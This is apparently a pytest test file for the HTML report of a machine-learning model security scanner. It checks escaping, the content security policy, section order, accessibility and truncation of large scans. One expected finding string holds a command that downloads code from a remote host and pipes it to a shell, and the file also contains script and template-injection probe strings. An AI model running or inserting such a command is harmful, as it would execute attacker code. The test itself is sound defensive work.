"""The page is one file, says the verdict first, and a hostile name stays text."""

import re
from html.parser import HTMLParser
from itertools import pairwise

import msgspec
import pytest

from casemate.export.report import Bundle, write
from tests.export import bundles

ALLOWED_SCHEMES = ("#", "https://", "data:image/png;base64,")
VOID = {"meta", "img", "br", "path", "circle"}


class Page(HTMLParser):
    """Collects tags, attributes and text, and checks that tags nest."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.addresses, self.open, self.ids, self.text = [], [], [], [], []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", (tag, value)
            if name in ("src", "href"):
                self.addresses.append(value)
            if name == "id":
                self.ids.append(value)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        if "style" not in self.open:
            self.text.append(data)


def page_of(bundle):
    return Page(write(bundle, "html").decode("utf-8"))


@pytest.mark.parametrize("name", ["image", "tabular", "hostile"])
def test_it_is_whole_self_contained_and_without_script(name):
    page = page_of(getattr(bundles, f"{name}_bundle")())
    assert not [
        tag for tag, _ in page.tags if tag in ("script", "link", "iframe", "object", "base")
    ]
    assert all(one.startswith(ALLOWED_SCHEMES) for one in page.addresses)
    assert len(set(page.ids)) == len(page.ids)
    assert {one[1:] for one in page.addresses if one.startswith("#")} <= set(page.ids)
    policy = next(a["content"] for tag, a in page.tags if a.get("http-equiv"))
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    tags = [tag for tag, _ in page.tags]
    assert tags.count("main") == tags.count("h1") == 1
    levels = [int(tag[1]) for tag in tags if re.fullmatch("h[1-6]", tag)]
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert all(attrs.get("alt") for tag, attrs in page.tags if tag == "img")
    assert all(attrs.get("scope") for tag, attrs in page.tags if tag == "th")


def test_a_hostile_name_is_shown_and_stays_text():
    text = write(bundles.hostile_bundle(), "html").decode("utf-8")
    assert "<script" not in text
    assert "<img" not in text
    assert "&lt;script&gt;" in text
    assert "\x00" not in text
    assert "\u202e" not in text
    assert "{{7*7}}" in text


def test_the_verdict_comes_first_then_what_to_do():
    text = " ".join("".join(page_of(bundles.image_bundle()).text).split())
    order = [
        "Does not meet the bar",
        "Accuracy falls from",
        "Do this first",
        "What attacks do to",
        "Worst examples",
        "Copying and poisoning the model",
        "Weaknesses and what to do about each",
        "Files scanned",
        "What was not checked, and why",
        "About this run",
    ]
    places = [text.rindex(one) for one in order]
    assert places == sorted(places)


def test_everything_a_reader_needs_is_there():
    text = " ".join("".join(page_of(bundles.image_bundle()).text).split())
    for one in (
        "models/ranker.pkl > archive/data.pkl, byte 1,042",
        "system('curl -s http://198.51.100.7/x | sh')",
        "Ask its author for a safetensors file",
        "casemate attack torch:model.py:build --data digits.npz --attack evasion-apgd-ce",
        "membership-inference against digits",
        "Only 200 of 1,000 inputs were attacked",
        "Reviewed by Ana on 2 March",
        "seed",
        "sha256:" + "4" * 64,
    ):
        assert one in text or one.lower() in text.lower(), one


def test_charts_have_a_text_and_a_table():
    page = page_of(bundles.image_bundle())
    drawn = [attrs for tag, attrs in page.tags if tag == "svg" and attrs.get("role") == "img"]
    assert len(drawn) == 5  # two norms, queries, extraction, poisoning
    for attrs in drawn:
        assert set(attrs["aria-labelledby"].split()) <= set(page.ids)
    assert "".join(page.text).count("The same as a table") == 5


def test_rows_mark_what_changed():
    text = write(tabular := bundles.tabular_bundle(), "html").decode("utf-8")
    assert "<mark>" in text
    assert re.search(r"recall, no attack", text)
    assert tabular.columns[0].name in text


def test_a_blob_that_is_gone_is_said_in_its_place():
    def gone(digest):
        return Bundle(run=bundles.run_record()).blob(digest)

    text = write(bundles.image_bundle(blob=gone), "html").decode("utf-8")
    assert "They cannot be shown: payload sha256:aaaa" in text


def test_a_large_scan_stays_a_page():
    verdicts, findings = bundles.scan_part()
    files = tuple(
        msgspec.structs.replace(
            verdicts[1], target=msgspec.structs.replace(verdicts[1].target, uri=f"f{i}")
        )
        for i in range(2000)
    )
    many = tuple(
        msgspec.structs.replace(findings[0], fingerprint=f"fp-{i:032x}") for i in range(1000)
    )
    data = write(
        Bundle(run=bundles.run_record(), verdicts=(*verdicts, *files), findings=many), "html"
    )
    assert len(data) < 3_000_000
    assert b"800 more findings, in the JSON report" in data
    assert b"1,503 more files, in the JSON report" in data


def test_an_empty_run_says_nothing_was_checked():
    text = "".join(page_of(Bundle(run=bundles.run_record())).text)
    assert "Nothing was checked" in text
